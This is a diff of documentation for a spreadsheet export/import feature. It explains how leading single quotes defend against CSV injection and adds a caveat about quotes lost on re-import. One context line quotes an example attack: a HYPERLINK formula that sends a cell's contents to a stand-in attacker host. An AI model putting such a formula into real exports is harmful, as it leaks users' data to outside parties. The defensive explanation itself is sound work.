@@ -6,7 +6,13 @@ name ``=HYPERLINK("https://evil.example/?"&A1, "Click")`` would have it run in t
 marketer's spreadsheet when an export is opened ("CSV injection"). OWASP's rule, which
 exports follow by default: such a cell gets a leading single quote, which the
 spreadsheet reads as "this is text". ``protected()`` adds it on export,
-``unprotected()`` takes it away on import, so an export imports back as it was.
+``unprotected()`` takes it away on import, so a protected export imports back with
+its quotes as they were.
+
+The import cannot tell which export wrote a file, and always takes one quote away.
+The export for another program (``--no-formula-protection``) adds none, so a stored
+value that itself begins with ``'`` and then one of those characters loses that quote
+on the way back: ``'=x`` imports as ``=x``, an attribute ``'-5`` as the number -5.
 
 A plain number (``-5``, ``2.5e-3``, an E.164 phone such as ``+12125550100``) is written
 as it is: a spreadsheet reads it as a number, nothing in it can run, and a phone keeps
